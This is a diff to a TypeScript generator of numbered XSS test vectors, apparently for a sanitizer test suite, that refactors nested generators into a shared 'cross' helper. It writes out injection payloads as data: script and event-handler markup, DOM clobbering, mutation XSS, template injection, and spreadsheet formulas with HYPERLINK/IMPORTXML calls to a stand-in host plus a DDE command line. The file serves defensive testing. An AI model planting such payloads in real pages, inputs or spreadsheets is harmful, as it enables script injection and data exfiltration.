@@ -4,6 +4,9 @@ export const EVIL_HOST = 'ondskap.example';
 /** What a vector does when it succeeds: says its own number. */
 const code = (n: number): string => `__ran(${n})`;
 type Make = (n: number) => string;
+/** Each of the one with each of the other. */
+const cross = <A, B>(as: readonly A[], bs: readonly B[], make: (a: A, b: B, n: number) => string): Make[] =>
+  as.flatMap((a) => bs.map((b) => (n: number) => make(a, b, n)));
 
 const entity = (text: string, style: 'decimal' | 'hex' | 'padded'): string =>
   [...text]
@@ -118,14 +121,7 @@ const URL_PLACES: ((url: string) => string)[] = [
   (u) => `[x](${u})`,
   (u) => u,
 ];
-const urls = (): Make[] =>
-  URL_PLACES.flatMap((place) =>
-    SCHEMES.map(
-      (scheme): Make =>
-        (n) =>
-          place(scheme(n)),
-    ),
-  );
+const urls = cross(URL_PLACES, SCHEMES, (place, scheme, n) => place(scheme(n)));
 
 const CORES: Make[] = [
   (n) => `<script>${code(n)}</script>`,
@@ -161,14 +157,7 @@ const BREAKOUTS = [
     '<<', '< ', '</ ', '<%', '<?', '<!',
   ],
 ];
-const breakouts = (): Make[] =>
-  BREAKOUTS.flatMap((before) =>
-    CORES.map(
-      (core): Make =>
-        (n) =>
-          `${before}${core(n)}`,
-    ),
-  );
+const breakouts = cross(BREAKOUTS, CORES, (before, core, n) => `${before}${core(n)}`);
 
 // biome-ignore format: a list
 const FOREIGN = [
@@ -188,26 +177,15 @@ const HIDDEN: ((core: string, raw: string) => string)[] = [
   (core, raw) => `<form><${raw}></form><form><${raw}>${core}</${raw}>`,
 ];
 /** Markup that means one thing to the cleaner and another when the browser reads it again. */
-function mutations(): Make[] {
-  return FOREIGN.flatMap((outer, i) =>
-    RAW_TEXT.flatMap((raw, j) =>
-      HIDDEN.map(
-        (hide, k): Make =>
-          (n) =>
-            `<${outer}>${hide(CORES[(i + j + k) % CORES.length]?.(n) ?? '', raw)}`,
-      ),
-    ),
-  );
-}
+const mutations = FOREIGN.flatMap((outer, i) =>
+  cross(RAW_TEXT, HIDDEN, (raw, hide, n) => `<${outer}>${hide(CORES[(i + n) % CORES.length]?.(n) ?? '', raw)}`),
+);
 /** Deep nesting, which parsers cut off at different depths. */
-const nested = (): Make[] =>
-  ['div', 'b', 'table><tr><td', 'svg><g', 'math><mi', 'ul><li', 'font', 'a', 'button'].flatMap((tag) =>
-    [3, 60, 520].map(
-      (depth): Make =>
-        (n) =>
-          `${`<${tag}>`.repeat(depth)}${CORES[n % CORES.length]?.(n)}`,
-    ),
-  );
+const nested = cross(
+  ['div', 'b', 'table><tr><td', 'svg><g', 'math><mi', 'ul><li', 'font', 'a', 'button'],
+  [3, 60, 520],
+  (tag, depth, n) => `${`<${tag}>`.repeat(depth)}${CORES[n % CORES.length]?.(n)}`,
+);
 
 const ENCODINGS: ((text: string) => string)[] = [
   (t) => t.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
@@ -232,14 +210,7 @@ const ENCODINGS: ((text: string) => string)[] = [
   (t) => t.toUpperCase().replaceAll('__RAN', '__ran'),
   (t) => `\u001b[31m${t}`,
 ];
-const encoded = (): Make[] =>
-  CORES.flatMap((core) =>
-    ENCODINGS.map(
-      (encode): Make =>
-        (n) =>
-          encode(core(n)),
-    ),
-  );
+const encoded = cross(CORES, ENCODINGS, (core, encode, n) => encode(core(n)));
 
 const TEMPLATES: Make[] = [
   (n) => `{{constructor.constructor('${code(n)}')()}}`,
@@ -261,41 +232,25 @@ const CLOBBERING = [
   '__proto__', 'document', 'cookie', 'getElementById', 'attributes', 'nodeName', 'parentNode', 'childNodes', 'innerHTML', 'root',
   'content', 'boot', 'location', 'body',
 ];
-const clobbering = (): Make[] =>
-  CLOBBERING.flatMap((name): Make[] => [
-    (n) => `<form id=${name}><input name=${name}><img name=${name} src=x onerror=${code(n)}></form>`,
-    (n) => `<a id=${name}></a><a id=${name} name=x href="javascript:${code(n)}">x</a>`,
-    (n) => `<img id=${name} name=${name} src=//${EVIL_HOST}/${n}>`,
-  ]);
+const clobbering = CLOBBERING.flatMap((name): Make[] => [
+  (n) => `<form id=${name}><input name=${name}><img name=${name} src=x onerror=${code(n)}></form>`,
+  (n) => `<a id=${name}></a><a id=${name} name=x href="javascript:${code(n)}">x</a>`,
+  (n) => `<img id=${name} name=${name} src=//${EVIL_HOST}/${n}>`,
+]);
 
 const FORMULAS = ['=', '+', '-', '@', '|', '%', '\t=', '\r=', ' =', '\u00a0=', '\n+', '"=', "'=", ';=', '\ufeff=', '＝', '＋', '－', '＠'];
-const formulas = (): Make[] =>
-  FORMULAS.flatMap((start): Make[] => [
-    (n) => `${start}HYPERLINK("http://${EVIL_HOST}/${n}";"x")`,
-    (n) => `${start}cmd|'/c calc'!A${n}`,
-    (n) => `x";${start}IMPORTXML("http://${EVIL_HOST}/${n}")`,
-    (n) => `x\r\n${start}1+${n}`,
-  ]);
+const formulas = FORMULAS.flatMap((start): Make[] => [
+  (n) => `${start}HYPERLINK("http://${EVIL_HOST}/${n}";"x")`,
+  (n) => `${start}cmd|'/c calc'!A${n}`,
+  (n) => `x";${start}IMPORTXML("http://${EVIL_HOST}/${n}")`,
+  (n) => `x\r\n${start}1+${n}`,
+]);
 
 /** All of them, each with its own number in it; the same every time. */
 export function xssVectors(): string[] {
   const makes = [
-    ...handlers(),
-    ...urls(),
-    ...breakouts(),
-    ...mutations(),
-    ...nested(),
-    ...encoded(),
-    ...TEMPLATES,
-    ...clobbering(),
-    ...formulas(),
-    ...BREAKOUTS.flatMap((before, i) =>
-      URL_PLACES.slice(0, 26).map(
-        (place): Make =>
-          (n) =>
-            before + place(SCHEMES[(i + n) % SCHEMES.length]?.(n) ?? ''),
-      ),
-    ),
+    ...[...handlers(), ...urls, ...breakouts, ...mutations, ...nested, ...encoded, ...TEMPLATES, ...clobbering, ...formulas],
+    ...cross(BREAKOUTS, URL_PLACES.slice(0, 26), (before, place, n) => before + place(SCHEMES[n % SCHEMES.length]?.(n) ?? '')),
   ];
   return makes.map((make, n) => make(n));
 }
